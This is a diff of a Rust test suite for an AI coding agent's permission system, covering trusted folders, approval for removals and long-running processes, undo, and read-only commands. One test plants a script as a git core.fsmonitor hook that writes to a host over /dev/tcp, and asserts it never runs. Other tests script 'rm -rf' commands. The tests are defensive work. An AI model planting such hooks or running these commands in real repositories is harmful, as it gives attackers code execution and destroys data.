@@ -3,7 +3,7 @@
 use std::fs;
 
 use buddy_testkit::model::{ModelServer, Turn, turn};
-use serde_json::Value;
+use serde_json::{Value, json};
 
 use crate::stage::{Stage, done, run, shell};
 
@@ -49,6 +49,18 @@ async fn what_stays_in_the_workspace_runs_unasked() {
     let work = stage.home.work();
     assert!(work.join("made").exists() && work.join("by-python").exists(), "{results:#?}");
     assert!(!work.join("target").exists());
+}
+
+#[tokio::test]
+async fn it_is_the_policy_of_a_trusted_folder_and_of_no_other() {
+    for is_trusted in [true, false] {
+        let stage = Stage::apart(vec![run("touch made"), done()]).await;
+        let trust: &[&str] = if is_trusted { &["--trust"] } else { &[] };
+        let finished = stage.usual(["exec", "go"]).args(trust).run().await;
+        let results = stage.results();
+        assert_eq!(stage.home.work().join("made").exists(), is_trusted, "{finished} {results:#?}");
+        assert_eq!(results[0]["ok"], is_trusted, "{results:#?}");
+    }
 }
 
 #[tokio::test]
@@ -106,4 +118,103 @@ async fn a_command_reaches_hosts_by_the_broker_and_its_result_says_which() {
         assert_eq!(row["host"], "127.0.0.1", "{result:#}");
         assert_eq!(row["received"].as_u64().unwrap() > 0, is_named, "{result:#}");
     }
+}
+
+#[tokio::test]
+async fn reading_runs_unasked_and_what_a_repository_makes_git_run_is_held_to_reading() {
+    for arguments in [&["--approve", "none"][..], &["--plan"]] {
+        let host = ModelServer::start([turn().text("x")]).await;
+        let address = host.url().trim_start_matches("http://").replace(':', "/");
+        let turns = vec![
+            run("git status --short; git log --oneline; git --version; cat *.md; ls | xargs wc -c"),
+            run("for f in *.md; do echo \"- $f\"; done; awk '{print $1}' notes.md; python3 -V"),
+            done(),
+        ];
+        let stage = Stage::apart(turns).await;
+        let work = stage.home.work();
+        let evil = format!(
+            "#!/bin/bash\ntouch {0}/ran /tmp/ran-$$ {0}/../ran; echo x > /dev/tcp/{address}; exit 1\n",
+            work.display()
+        );
+        fs::write(work.join("evil"), evil).unwrap();
+        fs::write(work.join("notes.md"), "hello\n").unwrap();
+        let repository = "git init -q && chmod +x evil && git config core.fsmonitor \"$PWD/evil\"";
+        stage.in_bash(repository).run().await.expect_code(0);
+        stage.usual(["exec", "--trust", "go"]).args(arguments).run().await.expect_code(0);
+        let results = stage.results();
+        for result in &results {
+            assert_eq!(result["ok"], true, "{result:#}");
+        }
+        let printed =
+            |place: usize| results[place]["result"]["stdout"].as_str().unwrap_or_default().to_owned();
+        assert!(printed(0).contains("hello") && printed(0).contains("?? notes.md"), "{results:#?}");
+        assert!(printed(1).contains("- notes.md\nhello\nPython 3"), "{results:#?}");
+        assert!(!work.join("ran").exists() && !work.join("../ran").exists());
+        assert_eq!(host.connections(), 0);
+    }
+}
+
+#[tokio::test]
+async fn advice_that_is_missing_or_makes_no_sense_fails_no_call() {
+    let turns = vec![
+        turn().call("run_shell", json!({"command": "touch one"})),
+        turn().call("run_shell", json!({"command": "touch two", "why": 1, "risk": "tiny", "mutation": "?"})),
+        done(),
+    ];
+    let stage = Stage::new(turns).await;
+    stage.usual(["exec", "--trust", "go"]).run().await.expect_code(0);
+    assert!(stage.home.work().join("one").exists() && stage.home.work().join("two").exists());
+}
+
+#[tokio::test]
+async fn a_removal_that_undo_does_not_bring_back_is_denied_where_nobody_can_be_asked() {
+    let turns = vec![
+        run("rm -rf data"),
+        turn().call("delete_path", json!({"path": "big"})),
+        run("rm -rf target src"),
+        turn().call("delete_path", json!({"path": "data", "recursive": true})),
+        done(),
+    ];
+    let stage = Stage::new(turns).await;
+    let work = stage.home.work();
+    for directory in [".git", "data", "target/debug", "src"] {
+        fs::create_dir_all(work.join(directory)).unwrap();
+        fs::write(work.join(directory).join("file"), "x").unwrap();
+    }
+    fs::write(work.join(".gitignore"), "data\ntarget\n").unwrap();
+    fs::write(work.join("big"), vec![0; 17 * 1024 * 1024]).unwrap();
+    stage.usual(["exec", "--trust", "go"]).run().await;
+    let results = stage.results();
+    for place in [0, 1] {
+        assert_eq!(results[place]["error"]["code"], "approval_needed", "{results:#?}");
+    }
+    assert!(work.join("big").exists() && !work.join("target").exists() && !work.join("src").exists());
+    assert!(!work.join("data").exists(), "a tool keeps what it removes: {results:#?}");
+    stage.buddy(["undo", "--yes"]).run().await.expect_code(0);
+    assert_eq!(fs::read_to_string(work.join("data/file")).unwrap(), "x");
+}
+
+#[tokio::test]
+async fn a_process_that_runs_on_is_asked_for() {
+    let arguments =
+        json!({"command": "sleep 1000", "why": "x", "risk": "low", "mutation": true, "privesc": false});
+    let background = json!({"command": "sleep 1000", "why": "x", "risk": "low", "mutation": true, "privesc": false, "wait": false});
+    let turns = vec![turn().call("process_start", arguments), turn().call("run_shell", background), done()];
+    let stage = Stage::new(turns).await;
+    stage.usual(["exec", "--trust", "go"]).run().await;
+    for result in stage.results() {
+        assert_eq!(result["error"]["code"], "approval_needed", "{result:#}");
+    }
+}
+
+#[tokio::test]
+async fn a_session_that_was_told_to_ask_goes_on_asking() {
+    let stage =
+        Stage::new(vec![turn().text("hello"), run("touch one"), done(), run("touch two"), done()]).await;
+    stage.buddy(["trust"]).run().await.expect_code(0);
+    stage.usual([]).input("hi\n/approve ask\n").run().await;
+    stage.usual(["exec", "--last", "go"]).run().await;
+    assert!(!stage.home.work().join("one").exists());
+    stage.usual(["exec", "--last", "--permission-mode", "auto", "go"]).run().await;
+    assert!(stage.home.work().join("two").exists(), "the command line says otherwise");
 }
